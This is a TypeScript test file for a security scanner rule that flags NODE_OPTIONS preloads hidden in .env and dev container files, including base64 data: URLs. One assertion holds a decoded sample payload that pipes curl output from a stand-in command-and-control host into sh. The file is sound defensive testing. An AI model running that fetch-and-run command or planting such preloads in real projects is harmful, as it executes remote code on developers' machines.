import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const ID = 'autorun/node-options-env';
const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

describe('NODE_OPTIONS preloads', () => {
  it('a .env preload is a surface of the package scripts, raised to what the preloaded file does', async () => {
    const report = await scanFixture(fixture('match/env-require-file'));
    const s = report.executionMap.find(x => x.kind === 'node-preload');
    assert.equal(s?.trigger, 'dev');
    assert.equal(s.entry, 'lib/telemetry.js');
    const [f] = findingsOf(report, ID, 'critical');
    assert.deepEqual(f?.location, { file: '.env.local', line: 2 });
  });

  it('a data: URL is decoded and analysed as JavaScript', async () => {
    const report = await scanFixture(fixture('match/env-data-url'));
    const [f] = findingsOf(report, ID, 'critical');
    assert.match(f?.evidence ?? '', /decoded: require\('child_process'\)\.exec\('curl -s https:\/\/c2\.example\.invalid\/x \| sh'\)/);
  });

  it('a data: URL that does nothing risky is still high: hiding a preload is the signal', async () => {
    const code = Buffer.from('globalThis.x = 1;').toString('base64');
    const dir = tempRepo({ '.env.development': `NODE_OPTIONS=--import=data:text/javascript;base64,${code}\n` }, 'airlock-nodeopt-');
    const report = await scanFixture(dir);
    const hits = findingsOf(report, ID, 'high');
    assert.equal(hits.length, 1);
    assert.equal(hits[0]?.severity, 'high');
  });

  it('a dev container path under /workspaces/<name> is the opened folder, on the open trigger', async () => {
    const report = await scanFixture(fixture('match/devcontainer-remote-env'));
    const s = report.executionMap.find(x => x.kind === 'node-preload');
    assert.equal(s?.trigger, 'open');
    assert.equal(s.entry, '.devcontainer/init.js');
  });

  it('template env files and installed preloads are not surfaces', async () => {
    const dir = tempRepo(
      { '.env.example': 'NODE_OPTIONS=--require ./x.js\n', 'x.js': 'module.exports = 1;\n', '.env': 'NODE_OPTIONS=-r ts-node/register\n' },
      'airlock-nodeopt-',
    );
    const report = await scanFixture(dir);
    assert.equal(report.executionMap.filter(x => x.kind === 'node-preload').length, 0);
  });
});
